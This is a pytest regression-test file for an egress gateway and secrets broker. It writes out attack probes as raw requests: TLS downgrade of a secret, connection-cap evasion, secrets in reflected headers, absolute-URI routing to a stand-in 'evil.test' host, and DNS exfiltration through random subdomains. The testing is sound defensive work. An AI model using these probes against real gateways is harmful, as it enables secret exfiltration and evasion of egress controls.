"""Attacks on the egress gateway and the secrets broker that the policy tests
do not cover, over real sockets on this host (fast: no sandbox, no server).
Each won before its fix.

* **A downgrade of a secret's TLS.** Plain HTTP to a secret's host on 443 (or
  its own port) went out in the clear with the value in it. Only port 80
  relays plain HTTP with values.
* **Connections of many namespaces.** The cap on open connections was per
  namespace (``<session>/<n>``), not per session, and there was none across
  sessions.
* **The value where servers act on it or reflect it.** A numeric value as
  ``Content-Length`` or ``Range`` is found by how much body gets an answer; a
  ``Host``, ``Origin``, ``Referer``... comes back in redirects and CORS headers.
* **An absolute URI with an allowed Host.** The gateway checked the ``Host``;
  nginx routes by the URI's host (RFC 9112, 3.2.2): a disallowed virtual host
  on an allowed address answered.
* **Names resolved for connections.** Random names under an allowed wildcard,
  as connections' ``Host``, were each sent to the resolver, outside the DNS's
  rate.
"""

from __future__ import annotations

import asyncio
import os
import shutil
import socket
import subprocess
import time
from collections.abc import AsyncIterator, Iterator
from pathlib import Path

import pytest

from lmc_runtime.egress import dns
from lmc_runtime.egress.gateway import EgressGateway, GatewayLimits
from lmc_runtime.egress.hooks import SessionSockets
from lmc_runtime.egress.secret_specs import parse_secret
from lmc_runtime.egress.secrets import SecretBroker, upstream_context
from tests.integration.egress.echo_upstream import Upstream, echo_upstream
from tests.integration.egress.harness import (
    WAIT,
    StaticResolver,
    policy,
    serving,
    session_sockets,
)
from tests.integration.egress.test_secrets_broker import (
    API_KEY,
    broker_at,
    client_context,
    echoed,
    exchange,
    get,
)

pytestmark = [pytest.mark.anyio, pytest.mark.timeout(60)]


@pytest.fixture
def anyio_backend() -> str:
    return "asyncio"


@pytest.fixture
def upstream(tmp_path: Path) -> Iterator[Upstream]:
    """The secret's host over TLS, answering with what it received."""
    with echo_upstream("api.test", tmp_path) as server:
        yield server


@pytest.fixture
def plain_upstream(tmp_path: Path) -> Iterator[Upstream]:
    """A plain HTTP server standing where the secret's host takes TLS (as a
    network observer, or a server that logs what it is sent, would see it)."""
    with echo_upstream("api.test", tmp_path, tls=False) as server:
        yield server


@pytest.mark.parametrize("port", [443, 8443])
async def test_plain_http_to_a_tls_port_never_carries_the_value(
    plain_upstream: Upstream, port: int
) -> None:
    rule = "api.test" if port == 443 else f"api.test:{port}"
    broker = SecretBroker([parse_secret(f"API_KEY:{rule}")], {"API_KEY": API_KEY.encode()})
    token = broker.open("s1", ["API_KEY"])["API_KEY"]
    async with broker_at(broker, "s1", "api.test", port, plain_upstream.port) as at:
        received = await asyncio.to_thread(
            exchange, at, [get("/echo", {"X-Api-Key": token})], tls=None, name="api.test"
        )
    assert API_KEY.encode() not in plain_upstream.seen.all()
    assert API_KEY.encode() not in received
    # relayed all the same, the placeholder a placeholder
    assert echoed(received)["headers"]["X-Api-Key"] == token


Stream = tuple[asyncio.StreamReader, asyncio.StreamWriter]
CONNECT = b"CONNECT good.test:%d HTTP/1.1\r\nHost: good.test:%d\r\n\r\n"


async def _tunnel(sockets: SessionSockets, port: int) -> tuple[Stream, bytes]:
    """A CONNECT through ``sockets``' proxy to the silent upstream at ``port``:
    the stream, and the gateway's answer (b"" if it closed the connection)."""
    stream = await asyncio.wait_for(asyncio.open_connection(*sockets.proxy.getsockname()), WAIT)
    stream[1].write(CONNECT % (port, port))
    try:
        answer = await asyncio.wait_for(stream[0].readuntil(b"\r\n\r\n"), WAIT)
    except (asyncio.IncompleteReadError, ConnectionResetError):
        answer = b""
    return stream, answer


async def _tunnels(sockets: SessionSockets, port: int, count: int) -> list[Stream]:
    """``count`` tunnels that the gateway holds open (each answered 200)."""
    held = []
    for _ in range(count):
        stream, answer = await _tunnel(sockets, port)
        held.append(stream)
        assert answer.startswith(b"HTTP/1.1 200"), answer
    return held


@pytest.fixture
async def silent() -> AsyncIterator[int]:
    """An upstream on 127.0.0.2 that accepts and says nothing: its port."""
    writers: list[asyncio.StreamWriter] = []

    async def hold(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writers.append(writer)

    server = await asyncio.start_server(hold, "127.0.0.2", 0)
    try:
        yield server.sockets[0].getsockname()[1]
    finally:
        for writer in writers:
            writer.close()
        server.close()


@pytest.fixture
async def gateway() -> AsyncIterator[EgressGateway]:
    limits = GatewayLimits(head_timeout=30, max_connections=3, max_total=5)
    gateway = EgressGateway(StaticResolver({"good.test": ["127.0.0.2"]}), limits=limits)
    try:
        yield gateway
    finally:
        await asyncio.wait_for(gateway.aclose(), WAIT)


ALLOW = policy(["good.test", "127.0.0.2"])


async def test_the_connection_cap_holds_for_a_session_not_for_each_namespace(
    gateway: EgressGateway, silent: int
) -> None:
    first, second = session_sockets(), session_sockets()
    await gateway.attach("s1/1", ALLOW, first)
    await gateway.attach("s1/2", ALLOW, second)
    held = await _tunnels(first, silent, 3)
    stream, answer = await _tunnel(second, silent)
    for _, writer in [*held, stream]:
        writer.close()
    assert answer == b"", "a fourth connection of the session was served"


async def test_the_gateway_caps_connections_across_sessions(
    gateway: EgressGateway, silent: int
) -> None:
    sockets = {key: session_sockets() for key in ("a/1", "b/1", "c/1")}
    for key, each in sockets.items():
        await gateway.attach(key, ALLOW, each)
    held = await _tunnels(sockets["a/1"], silent, 3)
    held += await _tunnels(sockets["b/1"], silent, 2)
    stream, answer = await _tunnel(sockets["c/1"], silent)
    for _, writer in [*held, stream]:
        writer.close()
    assert answer == b"", "a sixth connection of the gateway was served"


async def test_a_numeric_value_is_never_a_request_length(upstream: Upstream) -> None:
    """A placeholder as ``Content-Length``: were the value put in, the broker
    (and the upstream) would read that many bytes of body, and a client could
    find a numeric secret by how much body gets an answer."""
    value = "12"
    broker = SecretBroker([parse_secret("PIN:api.test")], {"PIN": value.encode()})
    broker.upstream = upstream_context(upstream.ca_file)
    token = broker.open("s1", ["PIN"])["PIN"]
    probe = f"POST /echo HTTP/1.1\r\nHost: api.test\r\nContent-Length: {token}\r\n\r\n"
    async with broker_at(broker, "s1", "api.test", 443, upstream.port) as at:
        received = await asyncio.to_thread(
            exchange,
            at,
            [probe.encode() + b"x" * int(value)],
            tls=client_context(broker),
            name="api.test",
        )
    assert received.startswith(b"HTTP/1.1 400"), received[:200]
    assert upstream.seen.all() == b""


@pytest.mark.parametrize(
    "header", ["Host", "Origin", "Referer", "X-Forwarded-Host", "Range", "User-Agent"]
)
async def test_a_value_is_not_put_where_servers_reflect_it(upstream: Upstream, header: str) -> None:
    """Servers routinely put these back in their answers (a redirect's
    ``Location`` built from ``Host``, CORS's ``Access-Control-Allow-Origin``
    from ``Origin``), and no API takes its key there."""
    broker = SecretBroker([parse_secret("API_KEY:api.test")], {"API_KEY": API_KEY.encode()})
    broker.upstream = upstream_context(upstream.ca_file)
    token = broker.open("s1", ["API_KEY"])["API_KEY"]
    if header == "Host":
        request = f"GET /echo HTTP/1.1\r\nHost: {token}\r\n\r\n".encode()
    else:
        request = get("/echo", {header: f"https://{token}/"})
    async with broker_at(broker, "s1", "api.test", 443, upstream.port) as at:
        received = await asyncio.to_thread(
            exchange, at, [request], tls=client_context(broker), name="api.test"
        )
    assert API_KEY.encode() not in received
    assert API_KEY.encode() not in upstream.seen.all()
    assert token.encode() in upstream.seen.all()  # forwarded, as it was


NGINX = """daemon off;
master_process off;
pid {dir}/nginx.pid;
error_log {dir}/error.log;
events {{ worker_connections 64; }}
http {{
  access_log off;
  client_body_temp_path {dir}/body;
  proxy_temp_path {dir}/proxy;
  fastcgi_temp_path {dir}/fastcgi;
  uwsgi_temp_path {dir}/uwsgi;
  scgi_temp_path {dir}/scgi;
  server {{ listen 127.0.0.2:{port}; server_name good.test; return 200 "good\\n"; }}
  server {{ listen 127.0.0.2:{port}; server_name evil.test; return 200 "evil\\n"; }}
}}
"""


@pytest.fixture
def virtual_hosts(tmp_path: Path) -> Iterator[int]:
    """nginx on 127.0.0.2 serving good.test and evil.test (one address for
    both, as a CDN's): its port. It routes a request by its absolute URI's
    host when it has one, whatever its Host header (RFC 9112, 3.2.2)."""
    nginx = shutil.which("nginx") or (
        "/usr/sbin/nginx" if os.path.exists("/usr/sbin/nginx") else None
    )
    if nginx is None:
        pytest.skip("no nginx on this host")
    with socket.socket() as probe:
        probe.bind(("127.0.0.2", 0))
        port = probe.getsockname()[1]
    conf = tmp_path / "nginx.conf"
    conf.write_text(NGINX.format(dir=tmp_path, port=port))
    process = subprocess.Popen(
        [nginx, "-c", str(conf), "-p", str(tmp_path), "-e", str(tmp_path / "error.log")],
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        deadline = time.monotonic() + WAIT
        while True:  # until it listens (or has ended, or the deadline)
            try:
                socket.create_connection(("127.0.0.2", port), timeout=1).close()
                break
            except OSError:
                if process.poll() is not None or time.monotonic() > deadline:
                    pytest.fail(f"nginx did not start: {(tmp_path / 'error.log').read_text()}")
                time.sleep(0.05)
        yield port
    finally:
        process.terminate()
        process.wait(WAIT)


async def _plain(stream: Stream, request: bytes) -> bytes:
    reader, writer = stream
    writer.write(request)
    try:
        return await asyncio.wait_for(reader.read(-1), WAIT)
    except ConnectionResetError:
        return b""
    finally:
        writer.close()


async def test_an_absolute_uri_names_no_other_host_than_the_checked_one(
    virtual_hosts: int,
) -> None:
    """A plain HTTP request redirected to good.test's address, its Host good.test
    and its target ``http://evil.test/``: the gateway checked the Host, the
    server routes by the target. Through a CONNECT to good.test the same."""
    fronted = b"GET http://evil.test/ HTTP/1.1\r\nHost: good.test\r\nConnection: close\r\n\r\n"
    names = {"good.test": ["127.0.0.2"], "evil.test": ["127.0.0.2"]}
    async with serving(policy(["good.test", "127.0.0.2/32"]), StaticResolver(names)) as session:
        direct = await _plain(await session.redirected(("127.0.0.2", virtual_hosts)), fronted)
        tunnel = await session.proxy()
        tunnel[1].write(b"CONNECT good.test:%d HTTP/1.1\r\n\r\n" % virtual_hosts)
        established = await asyncio.wait_for(tunnel[0].readuntil(b"\r\n\r\n"), WAIT)
        tunnelled = await _plain(tunnel, fronted)
        control = await _plain(
            await session.redirected(("127.0.0.2", virtual_hosts)),
            b"GET / HTTP/1.1\r\nHost: good.test\r\nConnection: close\r\n\r\n",
        )
    assert control.endswith(b"good\n"), control  # the gateway passes good.test's
    assert established.startswith(b"HTTP/1.1 200"), established
    assert not direct.endswith(b"evil\n"), direct
    assert not tunnelled.endswith(b"evil\n"), tunnelled


@pytest.mark.parametrize("scheme", ["http", "https", "HTTPS"])
async def test_the_broker_forwards_no_absolute_uri(upstream: Upstream, scheme: str) -> None:
    """The same through the secrets broker: the value would go with a request
    that the secret's host routes to another of its names."""
    broker = SecretBroker([parse_secret("API_KEY:api.test")], {"API_KEY": API_KEY.encode()})
    broker.upstream = upstream_context(upstream.ca_file)
    token = broker.open("s1", ["API_KEY"])["API_KEY"]
    request = (
        f"GET {scheme}://evil.test/x?y=1 HTTP/1.1\r\nHost: api.test\r\n"
        f"Authorization: Bearer {token}\r\n\r\n"
    ).encode()
    async with broker_at(broker, "s1", "api.test", 443, upstream.port) as at:
        received = await asyncio.to_thread(
            exchange, at, [request], tls=client_context(broker), name="api.test"
        )
    assert echoed(received)["path"] == "/x?y=1"
    assert b"evil.test" not in upstream.seen.all()


class CountingResolver:
    """Every name the gateway asks its resolver for (none resolves)."""

    def __init__(self) -> None:
        self.asked: list[str] = []

    async def resolve(self, name: str) -> list[str]:
        self.asked.append(name)
        return []


async def test_connections_resolve_names_no_faster_than_the_dns(silent: int) -> None:
    """Random names under an allowed wildcard as the Host of connections: each
    was resolved (a query to the resolver carrying the name), outside the
    session's DNS and its rate. And a name resolved once is not asked again."""
    resolver = CountingResolver()
    started = time.monotonic()
    async with serving(policy(["*.wild.test"]), resolver) as session:
        for i in range(400):
            stream = await session.redirected(("127.0.0.2", silent))
            await _plain(stream, b"GET / HTTP/1.1\r\nHost: %x-data.wild.test\r\n\r\n" % i)
        for _ in range(5):
            stream = await session.redirected(("127.0.0.2", silent))
            await _plain(stream, b"GET / HTTP/1.1\r\nHost: 0-data.wild.test\r\n\r\n")
    elapsed = time.monotonic() - started
    assert len(resolver.asked) <= dns.BURST + dns.RATE * elapsed + 1, len(resolver.asked)
    assert resolver.asked.count("0-data.wild.test") == 1
